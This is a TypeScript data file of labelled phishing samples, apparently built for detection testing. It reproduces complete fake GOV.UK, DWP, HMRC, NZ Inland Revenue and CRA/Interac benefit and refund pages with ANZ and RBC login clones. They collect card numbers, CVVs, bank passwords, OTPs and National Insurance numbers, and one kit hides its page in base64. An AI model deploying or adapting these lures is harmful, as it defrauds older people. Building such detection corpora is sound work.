/**
 * yi- government and benefit lures brought to a helpline for older people: Winter Fuel Payment,
 * cost-of-living, Medicare, Social Security, myGov, IRD, CRA, HMRC.
 */
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { b64, bankCss, cookieBanner, doc, govUkCss, govUkFooter, govUkHeader, wordmark } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-winter-fuel-payment-eligibility-kit',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://www.gov-uk-winterfuel.help/claim/start',
  body: doc({
    title: 'Winter Fuel Payment: confirm your eligibility - GOV.UK',
    css: govUkCss,
    body: `${cookieBanner('GOV.UK')}
${govUkHeader('Winter Fuel Payment', '/claim/start')}
<div class="govuk-width-container">
  <div class="govuk-phase-banner"><strong class="govuk-tag">Beta</strong>This is a new service – your <a href="#">feedback</a> will help us to improve it.</div>
  <main class="govuk-main-wrapper" id="main-content" role="main">
    <span class="govuk-caption-l">Department for Work and Pensions</span>
    <h1 class="govuk-heading-l">Confirm your eligibility for the Winter Fuel Payment 2024 to 2025</h1>
    <p>Following changes announced in the Autumn Budget, the Winter Fuel Payment of <strong>£200 to £300</strong> is no longer paid automatically. You must confirm your details by <strong>29 November</strong> or your payment will be withheld this winter.</p>
    <div class="govuk-warning-text"><span class="govuk-warning-text__icon" aria-hidden="true">!</span><strong>Our records show that you have not yet confirmed your details. Households who do not respond will not be paid.</strong></div>
    <form action="/claim/next.php" method="post" novalidate>
      <input type="hidden" name="step" value="1"><input type="hidden" name="ref" value="WFP-2024-118204">
      <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="full-name">Full name</label><input class="govuk-input" id="full-name" name="fullname" type="text" autocomplete="name"></div>
      <div class="govuk-form-group"><fieldset style="border:0;padding:0"><legend class="govuk-label govuk-label--s">Date of birth</legend><span class="govuk-hint">For example, 27 3 1951</span>
        <div class="govuk-date-input"><div><label class="govuk-label" for="dob-day">Day</label><input class="govuk-input govuk-input--width-2" id="dob-day" name="dob_d" inputmode="numeric"></div><div><label class="govuk-label" for="dob-month">Month</label><input class="govuk-input govuk-input--width-2" id="dob-month" name="dob_m" inputmode="numeric"></div><div><label class="govuk-label" for="dob-year">Year</label><input class="govuk-input govuk-input--width-4" id="dob-year" name="dob_y" inputmode="numeric"></div></div></fieldset></div>
      <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="nino">National Insurance number</label><span class="govuk-hint">It’s on your National Insurance card, benefit letter, payslip or P60. For example, ‘QQ 12 34 56 C’.</span><input class="govuk-input govuk-input--width-10" id="nino" name="nino" type="text" spellcheck="false"></div>
      <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="postcode">Postcode</label><input class="govuk-input govuk-input--width-10" id="postcode" name="postcode" autocomplete="postal-code"></div>
      <div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="mobile">Mobile phone number</label><span class="govuk-hint">We will text you when your payment has been released</span><input class="govuk-input" id="mobile" name="mobile" type="tel" autocomplete="tel"></div>
      <button class="govuk-button" data-module="govuk-button" type="submit">Continue</button>
    </form>
  </main>
</div>
${govUkFooter}`,
  }),
  routes: {
    'www.gov-uk-winterfuel.help/claim/next.php': htmlRoute(doc({
      title: 'How should we pay you? - Winter Fuel Payment - GOV.UK',
      css: govUkCss,
      body: `${govUkHeader('Winter Fuel Payment', '/claim/start')}
<div class="govuk-width-container"><main class="govuk-main-wrapper">
<a href="/claim/start" class="govuk-back-link">Back</a>
<h1 class="govuk-heading-l">Where should we pay your Winter Fuel Payment?</h1>
<p>To prevent fraud we verify the account with a one-off authorisation of £0.00. Please enter the debit card linked to the account your State Pension is paid into.</p>
<form action="/claim/complete.php" method="post">
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="acc-name">Name on the account</label><input class="govuk-input" id="acc-name" name="acc_name"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="sort">Sort code</label><span class="govuk-hint">Must be 6 digits long</span><input class="govuk-input govuk-input--width-4" id="sort" name="sortcode" inputmode="numeric"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="accno">Account number</label><input class="govuk-input govuk-input--width-10" id="accno" name="accno" inputmode="numeric"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="card">Debit card number</label><input class="govuk-input" id="card" name="cardnumber" inputmode="numeric" autocomplete="cc-number"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="exp">Expiry date (MM/YY)</label><input class="govuk-input govuk-input--width-4" id="exp" name="exp" autocomplete="cc-exp"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s" for="cvv">Card security code</label><span class="govuk-hint">The last 3 digits on the back of the card</span><input class="govuk-input govuk-input--width-2" id="cvv" name="cvv" inputmode="numeric" autocomplete="cc-csc"></div>
<button class="govuk-button" type="submit">Confirm and submit</button>
</form></main></div>${govUkFooter}`,
    })),
  },
},
{
  id: 'yi-dwp-cost-of-living-card-deposit',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://costofliving-dwp.uk/payment/claim.html?c=7H2KQ',
  body: doc({
    title: 'DWP | Cost of Living Payment – Claim',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f3f2f1;color:#0b0c0c}
.top{background:#00703c;color:#fff;padding:16px 24px;font-weight:700;font-size:22px}
.top small{display:block;font-weight:400;font-size:14px}
.box{max-width:640px;margin:30px auto;background:#fff;padding:28px 32px;border-top:6px solid #00703c}
.amount{font-size:44px;font-weight:700;color:#00703c;margin:6px 0}
label{display:block;font-weight:700;margin:18px 0 5px}input{width:100%;padding:9px;border:2px solid #0b0c0c;font-size:17px;box-sizing:border-box}
.r{display:flex;gap:12px}.r>div{flex:1}
button{margin-top:22px;background:#00703c;color:#fff;border:0;padding:12px 20px;font-size:18px;width:100%}
.err{color:#d4351c;font-weight:700;display:none;margin-top:10px}
.small{font-size:13px;color:#505a5f;margin-top:18px}`,
    body: `<div class="top">Department for Work &amp; Pensions<small>Cost of Living Payment Scheme 2024/25</small></div>
<div class="box">
  <p>Dear customer,</p>
  <p>Our records show you qualify for the final Cost of Living Payment because you receive Pension Credit or Attendance Allowance. Your payment of</p>
  <div class="amount">£299.00</div>
  <p>is ready to be released. As you have not received it automatically, please enter the debit card your pension is paid to. Funds arrive within 2 working days.</p>
  <form id="claim" autocomplete="on">
    <label for="n">Full name</label><input id="n" name="name" required>
    <label for="d">Date of birth</label><input id="d" name="dob" placeholder="DD/MM/YYYY" required>
    <label for="cn">Card number</label><input id="cn" name="cc" inputmode="numeric" maxlength="19" required>
    <div class="r"><div><label for="ex">Expiry</label><input id="ex" name="exp" placeholder="MM/YY" maxlength="5"></div><div><label for="cv">CVV</label><input id="cv" name="cvv" maxlength="4" inputmode="numeric"></div></div>
    <label for="sc">Sort code</label><input id="sc" name="sort" placeholder="00-00-00">
    <button type="submit">Release my payment</button>
    <div class="err" id="err">The card number you entered is not valid. Please check and try again.</div>
  </form>
  <p class="small">Reference: COLP/7H2KQ. This claim link expires 48 hours after it was sent. © Crown copyright</p>
</div>
<script>
function luhn(v){v=v.replace(/\\D/g,'');var s=0,a=false;for(var i=v.length-1;i>=0;i--){var d=+v[i];if(a){d*=2;if(d>9)d-=9}s+=d;a=!a}return v.length>12&&s%10===0}
document.getElementById('claim').addEventListener('submit',function(e){
  e.preventDefault();
  var f=new FormData(this);
  if(!luhn(f.get('cc')||'')){document.getElementById('err').style.display='block';return}
  var o={};f.forEach(function(v,k){o[k]=v});o.ua=navigator.userAgent;o.ref='7H2KQ';
  fetch('/payment/api/submit',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)})
    .then(function(){location.href='/payment/verify.html?c=7H2KQ'});
});
</script>`,
  }),
  routes: {
    'costofliving-dwp.uk/payment/api/submit': jsonRoute({ ok: true, next: '/payment/verify.html' }),
    'costofliving-dwp.uk/payment/verify.html': htmlRoute(doc({
      title: 'DWP | Verify',
      body: `<div style="max-width:520px;margin:40px auto;font-family:Arial;background:#fff;padding:24px;border-top:6px solid #00703c"><h2>Verify it’s you</h2><p>Your bank has sent a one-time passcode to your mobile phone to approve the deposit. Enter it below.</p><form method="post" action="/payment/otp.php"><input name="otp" inputmode="numeric" maxlength="8" autocomplete="one-time-code" style="font-size:24px;padding:8px;width:200px"><br><br><button style="background:#00703c;color:#fff;border:0;padding:10px 18px">Confirm</button></form></div>`,
    })),
  },
},
{
  id: 'yi-ird-nz-refund-bank-picker',
  label: 'phishing',
  kind: 'gov-refund-kit',
  url: 'https://ird-govt-nz.refunds-myir.com/refund/index.html?case=NZ-43310',
  body: doc({
    title: 'myIR - Inland Revenue Te Tari Taake',
    lang: 'en-NZ',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2;color:#222}
.top{background:#00324b;color:#fff;padding:14px 28px;display:flex;justify-content:space-between;align-items:center}
.top b{font-size:22px}.top small{color:#a9cfe0}
.main{max-width:760px;margin:30px auto;background:#fff;padding:28px 32px}
h1{color:#00324b;font-size:26px}.amt{font-size:36px;color:#007a5e;font-weight:700}
.banks{display:grid;grid-template-columns:repeat(3,1fr);gap:14px;margin-top:18px}
.banks a{display:block;border:1px solid #ccd;padding:18px;text-align:center;text-decoration:none;color:#00324b;font-weight:700;border-radius:4px}
.banks a:hover{background:#eef6fa}.f{font-size:12px;color:#666;text-align:center;margin:20px}`,
    body: `<div class="top"><b>Inland Revenue <small>Te Tari Taake</small></b><span>myIR</span></div>
<div class="main">
<h1>Your tax refund is ready</h1>
<p>After the annual review of your income for the year ending 31 March, we calculated you have overpaid tax. You are entitled to a refund of</p>
<div class="amt">NZ$486.20</div>
<p>Refunds are now paid through your online banking. Please select your bank below to confirm the account. The refund must be accepted within 3 days or it will be cancelled.</p>
<div class="banks">
<a href="/refund/bank/anz.html?case=NZ-43310">ANZ</a><a href="/refund/bank/asb.html?case=NZ-43310">ASB</a><a href="/refund/bank/bnz.html?case=NZ-43310">BNZ</a>
<a href="/refund/bank/westpac.html?case=NZ-43310">Westpac</a><a href="/refund/bank/kiwibank.html?case=NZ-43310">Kiwibank</a><a href="/refund/bank/tsb.html?case=NZ-43310">TSB</a>
</div></div>
<div class="f">© Inland Revenue. New Zealand Government</div>`,
  }),
  routes: {
    'ird-govt-nz.refunds-myir.com/refund/bank/anz.html': htmlRoute(doc({
      title: 'Log on to ANZ Internet Banking',
      lang: 'en-NZ',
      css: bankCss('#004165', '#007dba'),
      body: `<header class="top"><strong style="font-size:26px">ANZ</strong><span>Internet Banking</span></header>
<div class="wrap"><div class="panel"><h1>Log on</h1><p class="sub">Accept your Inland Revenue refund of NZ$486.20</p>
<form method="post" action="/refund/bank/anz_login.php"><input type="hidden" name="case" value="NZ-43310">
<label for="cn">Customer number</label><input type="text" id="cn" name="customer_no">
<label for="pw">Password</label><input type="password" id="pw" name="password">
<label for="mob">Mobile number (for OnlineCode)</label><input type="tel" id="mob" name="mobile">
<button class="btn">Log on</button></form></div></div>`,
    })),
  },
},
{
  id: 'yi-cra-interac-refund-chain-rbc',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://cutt-ca.link/CRA-refund48',
  routes: {
    'cutt-ca.link/CRA-refund48': redirectRoute(302, 'https://trk.smsnotify-ca.net/c/9f2a?u=cra'),
    'trk.smsnotify-ca.net/c/9f2a': redirectRoute(302, 'https://cra-arc-gc.refund-deposit.com/interac/deposit?ref=CA48291'),
    'cra-arc-gc.refund-deposit.com/interac/deposit': htmlRoute(doc({
      title: 'INTERAC e-Transfer: Canada Revenue Agency sent you money',
      lang: 'en-CA',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f6f6f6;color:#222}.y{background:#fdb913;padding:16px 26px;font-weight:700;font-size:20px}
.b{max-width:620px;margin:28px auto;background:#fff;padding:26px 30px;box-shadow:0 1px 3px #0002}.amt{font-size:34px;font-weight:700}
ul{list-style:none;padding:0;display:grid;grid-template-columns:1fr 1fr;gap:10px}li a{display:block;padding:14px;border:1px solid #ccc;border-radius:4px;text-decoration:none;color:#222}
select{width:100%;padding:10px;font-size:16px}.sm{font-size:12px;color:#666}`,
      body: `<div class="y">Interac e-Transfer<sup>®</sup></div>
<div class="b"><p>Hi,</p><p><strong>CANADA REVENUE AGENCY</strong> sent you a refund.</p><div class="amt">$612.48 (CAD)</div>
<p>Message: <em>GST/HST credit adjustment – benefit year 2024. Deposit before expiry.</em></p>
<p>Expires: in 2 days</p><h3>Select your financial institution</h3>
<ul><li><a href="/interac/rbc/signin?ref=CA48291">RBC Royal Bank</a></li><li><a href="/interac/td/signin?ref=CA48291">TD Canada Trust</a></li><li><a href="/interac/scotia/signin?ref=CA48291">Scotiabank</a></li><li><a href="/interac/bmo/signin?ref=CA48291">BMO</a></li><li><a href="/interac/cibc/signin?ref=CA48291">CIBC</a></li><li><a href="/interac/desj/signin?ref=CA48291">Desjardins</a></li></ul>
<p class="sm">® Trade-mark of Interac Corp. Used under licence. Reference number: CA48291</p></div>`,
    })),
    'cra-arc-gc.refund-deposit.com/interac/rbc/signin': htmlRoute(doc({
      title: 'RBC Online Banking - Sign In',
      lang: 'en-CA',
      css: bankCss('#005daa', '#005daa'),
      body: `<header class="top"><span>${wordmark('RBC Royal Bank', '#005daa', '#ffd200', 170)}</span><span><a href="#">Français</a><a href="#">Contact us</a></span></header>
<div class="wrap"><div class="panel"><h1>Sign In to Online Banking</h1><p class="sub">Deposit your Interac e-Transfer of $612.48</p>
<form id="rbc" method="post" action="/interac/rbc/post.php"><input type="hidden" name="ref" value="CA48291">
<label for="cc">Client Card or Username</label><input type="text" id="cc" name="K1">
<label for="pw">Password</label><input type="password" id="pw" name="Q1">
<label><input type="checkbox" name="rem"> Remember me</label>
<button class="btn">Sign In</button></form>
<p class="help"><a href="#">Recover your username</a> · <a href="#">Reset password</a></p></div>
<div class="panel help"><h3>Your security is our priority</h3><p>RBC will never ask you to confirm your personal information by e-mail or text message.</p></div></div>
<footer class="legal">Royal Bank of Canada Website, © 1995-2025 · <a href="#">Legal</a><a href="#">Privacy &amp; Security</a><a href="#">Accessibility</a></footer>`,
    })),
  },
},
{
  id: 'yi-hmrc-refund-docwrite-b64',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://hmrc.online-claims-refund.net/rf/?id=HM9932X',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>HM Revenue &amp; Customs</title><meta name="robots" content="noindex,nofollow"></head><body>
<script>var _0x3c=["${b64(doc({
    title: 'Claim your tax refund - HMRC - GOV.UK',
    css: govUkCss,
    body: `${govUkHeader('HM Revenue &amp; Customs')}
<div class="govuk-width-container"><main class="govuk-main-wrapper">
<h1 class="govuk-heading-l">Claim a tax refund</h1>
<p class="govuk-body-l">After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <strong>£348.60</strong> on your State Pension.</p>
<div class="govuk-inset-text">Please submit the tax refund request and allow us 3-5 working days in order to process it.</div>
<form method="post" action="Finish.php">
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Full name</label><input class="govuk-input" name="name"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Date of birth</label><input class="govuk-input govuk-input--width-10" name="dob"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Address line 1</label><input class="govuk-input" name="address"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Postcode</label><input class="govuk-input govuk-input--width-10" name="postcode"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Mother’s maiden name</label><input class="govuk-input" name="mmn"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Card number</label><input class="govuk-input" name="ccnum"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Expiry date</label><input class="govuk-input govuk-input--width-4" name="ccexp"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Security code</label><input class="govuk-input govuk-input--width-2" name="cvv"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Account number</label><input class="govuk-input govuk-input--width-10" name="acc"></div>
<div class="govuk-form-group"><label class="govuk-label govuk-label--s">Sort code</label><input class="govuk-input govuk-input--width-4" name="sort"></div>
<button class="govuk-button">Submit</button></form></main></div>${govUkFooter}`,
  }))}"];(function(a){var d=function(s){return decodeURIComponent(Array.prototype.map.call(atob(s),function(c){return '%'+('00'+c.charCodeAt(0).toString(16)).slice(-2)}).join(''))};document.write(d(a[0]))})(_0x3c);</script>
<noscript>Please enable JavaScript to continue.</noscript></body></html>`,
},
];
